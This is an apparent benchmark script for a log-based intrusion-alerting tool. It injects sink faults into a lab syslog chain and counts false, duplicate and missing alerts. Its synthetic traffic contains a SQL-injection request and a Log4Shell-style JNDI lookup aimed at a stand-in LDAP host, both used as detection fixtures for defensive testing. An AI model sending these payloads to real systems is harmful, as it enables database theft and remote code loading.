#!/usr/bin/env python3
"""Sink faults through the real chain: false alerts and duplicates after a failed write.

Runs (as root) the lab chain (``lwsyslog.lab``: web-host and central rsyslogd with RELP/TLS and
the shipped drop-ins, the real ``lwsyslog-omprog`` in a private journald's namespace, alerts to
journald and a messages file), once per mode (``useTransactions`` on, the shipped default,
and off) and fault:

- ``control``: no fault; the alerts it raises are the ones the traffic earns;
- ``dir``: for ``--fault-secs`` the messages file is unwritable: a directory stands in its
  place and the program is sent SIGHUP (it reopens its files); then the file is back;
- ``full``: for ``--fault-secs`` the file system holding the messages file is full (a small
  tmpfs inside the namespace, filled up, then emptied);
- ``journald``: for ``--fault-secs`` journald is stopped (SIGSTOP): its socket fills up.

(The faults are :class:`lwsyslog.lab.SinkFault`.)

Traffic (``--lines``, default 640, over ``--send-secs`` 20 s; the fault starts 5 s in):
harmless clients (ordinary page views, a few per client per 10 s) and single-line attackers
(one ``UNION SELECT`` line each). Reported per run: lines sent, lines the program processed
(its stats ``lines=``, summed over restarts: a resent line counted again shows here), alerts
in the messages file and in journald, *false alerts* (a (rule, client) pair the control run of
the same mode did not raise: ``request-flood``, ``attack-repeat``, ``urgent-burst`` ... for
clients that did not earn them), alerts of the control run *missing* from a sink,
*duplicates* (the same rule, client and sample line written more than once) and torn lines
in the messages file. Target: 0 false alerts, 0 duplicates, nothing missing.

    .venv/bin/python bench/bench_sink_faults.py               # both modes, all faults
    .venv/bin/python bench/bench_sink_faults.py --quick       # transactions, dir fault only
"""

from __future__ import annotations

import argparse
import contextlib
import re
import socket
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path

from hostile_report import Report

from lwsyslog import lab

__all__ = ["main"]

_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_ALERT = re.compile(
    r"^\S+ \S+ (?P<rule>\S+) client=(?P<client>\S+) categories=\S+ count=\d+ "
    r".*? line: (?P<line>.*)$"
)
_FAULT_START_SECS = 5.0
_ATTACKERS = 40
_HARMLESS = 20
_COUNTERS = ("received", "lines", "replays")


def _traffic(lines: int) -> list[tuple[str, bool]]:
    """(line with a ``{stamp}`` placeholder, is it an attack): page views from 20 harmless
    clients and one UNION SELECT line from each of up to 40 attackers, spread evenly."""
    attackers = min(_ATTACKERS, max(1, lines // 16))
    rows: list[tuple[str, bool]] = []
    step = max(1, lines // attackers)
    a = 0
    for i in range(lines):
        if i % step == step // 2 and a < attackers:
            rows.append((
                f'198.18.1.{a + 1} - - [{{stamp}}] "GET /item.php?id=1%27+UNION+SELECT+'
                f'name,pass+FROM+users--+-&a={a} HTTP/1.1" 200 1432 "-" "{_UA}"', True
            ))  # fmt: skip
            a += 1
        else:
            c = i % _HARMLESS
            rows.append((
                f'198.18.0.{c + 1} - - [{{stamp}}] "GET /blog/post-{i}.html HTTP/1.1" 200 5120 '
                f'"https://www.example.com/" "{_UA}"', False
            ))  # fmt: skip
    return rows


@dataclass(slots=True)
class Outcome:
    """One run's figures."""

    mode: str
    fault: str
    sent: int = 0
    counters: dict[str, int] = field(default_factory=dict)
    file_alerts: Counter[tuple[str, str, str]] = field(default_factory=Counter)
    journal_alerts: Counter[tuple[str, str, str]] = field(default_factory=Counter)
    torn: int = 0
    settle: float = 0.0
    raw_counts: tuple[int, int] = (0, 0)
    restarts: int = 0
    note: str = ""

    def pairs(self, alerts: Counter[tuple[str, str, str]] | None = None) -> set[tuple[str, str]]:
        """(rule, client) of every alert in ``alerts`` (default: written anywhere)."""
        keys = set(self.file_alerts) | set(self.journal_alerts) if alerts is None else set(alerts)
        return {(rule, client) for rule, client, _ in keys}


def _counters(stderr: Path) -> tuple[dict[str, int], int]:
    """The program's stats counters (``received``, ``lines``, ``replays``) summed over its
    restarts (a counter going down means a new program), and the number of restarts."""
    totals: dict[str, int] = dict.fromkeys(_COUNTERS, 0)
    last: dict[str, int] = dict.fromkeys(_COUNTERS, 0)
    restarts = 0
    with contextlib.suppress(OSError):
        for row in stderr.read_text(errors="replace").splitlines():
            if "stats:" not in row:
                continue
            values = {k: int(v) for k, v in re.findall(r"\b(\w+)=(\d+)", row) if k in _COUNTERS}
            if values.get("received", 0) < last["received"]:
                restarts += 1
                for key in _COUNTERS:
                    totals[key] += last[key]
            last.update(values)
    return {key: totals[key] + last[key] for key in _COUNTERS}, restarts


def _notable(stderr: Path, keep: int = 4) -> str:
    """The program's distinct warnings and errors (their first words), for the report."""
    seen: dict[str, None] = {}
    with contextlib.suppress(OSError):
        for row in stderr.read_text(errors="replace").splitlines():
            if "stats:" in row or not re.search(r"warning|error|notice", row, re.IGNORECASE):
                continue
            seen.setdefault(re.sub(r"\d+", "N", row.strip())[:140], None)
    return " / ".join(list(seen)[:keep])


def run_one(
    mode: str,
    fault_kind: str,
    args: argparse.Namespace,
    work: Path,
    expected: tuple[int, int] | None = None,
) -> Outcome:
    """One chain, one traffic run, one fault (or none); ``expected``: the control run's alert
    counts (messages file, journald, warm-up included) to wait for."""
    outcome = Outcome(mode, fault_kind)
    traffic = _traffic(args.lines)
    with lab.JournalNamespace(work / "journal") as journal:
        fault = lab.SinkFault(fault_kind, journal, work)
        program = lab.omprog_command(
            # Storm control off: 40 one-line attackers in 20 s would otherwise fold into
            # summaries, and the comparison is per (rule, client).
            config=lab.write_lab_config(work / "lwsyslog.toml", "[alerts]\nstorm_max_alerts = 0\n"),
            state_dir=work / "state",
            messages_file=fault.path,
        )
        chain = lab.LocalChain(
            work / "chain", program, journal, apache=False, transactions=mode == "transactions"
        )
        with chain:
            fault.pids = chain.omprog_pids
            with socket.create_connection(("127.0.0.1", chain.input_port)) as sock:
                stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
                sock.sendall(lab.syslog_line(
                    f'192.0.2.200 - - [{stamp}] "GET /warm-up HTTP/1.1" 200 5 "-" '
                    '"${jndi:ldap://198.51.100.9/a}"'
                ))  # fmt: skip
                lab.wait_for(lambda: b"/warm-up" in fault.read(), 60, "the warm-up alert")
                bodies = [body for body, _ in traffic]
                lab.send_through_fault(
                    lambda body: sock.sendall(lab.syslog_line(body)),
                    bodies,
                    fault,
                    send_secs=args.send_secs,
                    fault_start=_FAULT_START_SECS,
                    fault_secs=args.fault_secs,
                )
                outcome.sent = len(bodies)
            outcome.settle = lab.settle(
                lambda: (
                    fault.read().count(b"\n"),
                    len(journal.entries("SYSLOG_IDENTIFIER=lwsyslog")),
                ),
                expected,
                args.settle_secs,
            )
            data = fault.read()
            entries = journal.entries("SYSLOG_IDENTIFIER=lwsyslog")
            outcome.raw_counts = (data.count(b"\n"), len(entries))
            for entry in entries:
                fields = ("LWSYSLOG_RULE", "LWSYSLOG_CLIENT_IP", "LWSYSLOG_SAMPLE")
                rule, client, sample = (str(entry.get(name, "")) for name in fields)
                outcome.journal_alerts[(rule, client, sample)] += 1
        outcome.counters, outcome.restarts = _counters(chain.omprog_stderr)
        outcome.note = _notable(chain.omprog_stderr)
    for row in data.decode("utf-8", "replace").splitlines():
        match = _ALERT.match(row)
        if match is None:
            outcome.torn += 1
            continue
        outcome.file_alerts[(match["rule"], match["client"], match["line"])] += 1
    _drop_warm_up(outcome)
    return outcome


def _drop_warm_up(outcome: Outcome) -> None:
    for alerts in (outcome.file_alerts, outcome.journal_alerts):
        for key in [k for k in alerts if k[1] == "192.0.2.200"]:
            del alerts[key]


def _dups(alerts: Counter[tuple[str, str, str]]) -> int:
    return sum(count - 1 for count in alerts.values() if count > 1)


def main(argv: Sequence[str] | None = None) -> int:
    """Run every mode x fault; 0 when no run shows a false alert or a duplicate."""
    args = _parse_args(argv)
    modes = ["transactions"] if args.quick else args.modes
    faults = ["dir"] if args.quick else args.faults
    reason = lab.missing_requirements(apache=False)
    if reason:
        print(f"bench_sink_faults: {reason}", file=sys.stderr)
        return 2
    report = Report("sink-faults", "Sink faults through the chain (bench_sink_faults.py)", argv)
    report.line(f"- {args.lines} lines over {args.send_secs:g} s ({_HARMLESS} harmless "
                f"clients, up to {_ATTACKERS} single-line attackers); fault from "
                f"{_FAULT_START_SECS:g} s for {args.fault_secs:g} s; *settle s*: how long after "
                f"the last line the alert counts took to reach the control run's and hold still "
                f"(at most {args.settle_secs:g} s)\n")  # fmt: skip
    outcomes: list[Outcome] = []
    for mode in modes:
        expected: tuple[int, int] | None = None
        for kind in ["control", *faults]:
            with tempfile.TemporaryDirectory(prefix="lwsyslog-faults-") as tmp:
                print(f"{mode} / {kind} ...", file=sys.stderr, flush=True)
                outcome = run_one(mode, kind, args, Path(tmp), expected)
                outcomes.append(outcome)
                if kind == "control":
                    expected = outcome.raw_counts
    rows = []
    ok = True
    false_detail: list[str] = []
    for out in outcomes:
        control = next(o for o in outcomes if o.mode == out.mode and o.fault == "control")
        false = sorted(out.pairs() - control.pairs())
        missing_file = len(control.pairs(control.file_alerts) - out.pairs(out.file_alerts))
        missing_journal = len(control.pairs(control.journal_alerts) - out.pairs(out.journal_alerts))
        by_rule = Counter(rule for rule, _ in false)
        dups_file, dups_journal = _dups(out.file_alerts), _dups(out.journal_alerts)
        if out.fault != "control":
            ok = ok and not (false or dups_file or dups_journal or missing_file or missing_journal)
        if by_rule:
            false_detail.append(f"- {out.mode} / {out.fault}: " + ", ".join(
                f"`{rule}` {n}" for rule, n in by_rule.most_common()))  # fmt: skip
        rows.append([
            out.mode, out.fault, out.sent, *(f"{out.counters.get(k, 0):,}" for k in _COUNTERS),
            out.restarts, f"{out.settle:.0f}",
            sum(out.file_alerts.values()), sum(out.journal_alerts.values()), len(false),
            missing_file, missing_journal,
            dups_file, dups_journal, out.torn,
        ])  # fmt: skip
    report.table(
        ["mode", "fault", "lines sent", "lines received", "lines processed", "replays",
         "restarts", "settle s", "alerts in file", "alerts in journald", "false alerts",
         "missing (file)", "missing (journald)", "duplicates (file)", "duplicates (journald)",
         "torn lines"],
        rows, "llrrrrrrrrrrrrrr",
    )  # fmt: skip
    report.line("What the program said (distinct warnings and errors, digits as N):\n")
    for out in outcomes:
        report.line(f"- {out.mode} / {out.fault}: {out.note.replace('|', '/') or '-'}")
    report.line()
    if false_detail:
        report.line("False alerts by rule (rule, client pairs the control run did not raise):\n")
        for row in false_detail:
            report.line(row)
        report.line()
    report.line(f"Target (0 false alerts, 0 duplicates, 0 missing in every fault run): "
                f"{'met' if ok else 'NOT met'}\n")  # fmt: skip
    report.save()
    return 0 if ok else 1


def _parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description=__doc__.splitlines()[0] if __doc__ else None,
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog="Writes bench/out/sink-faults-<time>.md. Needs root (journald, rsyslogd, mount).",
    )
    parser.add_argument(
        "--modes", nargs="+", choices=["transactions", "lines"], default=["transactions", "lines"]
    )
    parser.add_argument(
        "--faults",
        nargs="+",
        choices=["dir", "full", "journald"],
        default=["dir", "full", "journald"],
    )
    parser.add_argument("--lines", type=int, default=640, help="lines sent per run (640)")
    parser.add_argument("--send-secs", type=float, default=20.0, help="spread over (20 s)")
    parser.add_argument("--fault-secs", type=float, default=10.0, help="fault length (10 s)")
    parser.add_argument(
        "--settle-secs",
        type=float,
        default=90.0,
        help="after the last line, wait at most this long for the control "
        "run's alert counts (90 s)",
    )
    parser.add_argument("--quick", action="store_true", help="transactions, dir fault only")
    return parser.parse_args(argv)  # fmt: skip


if __name__ == "__main__":
    sys.exit(main())
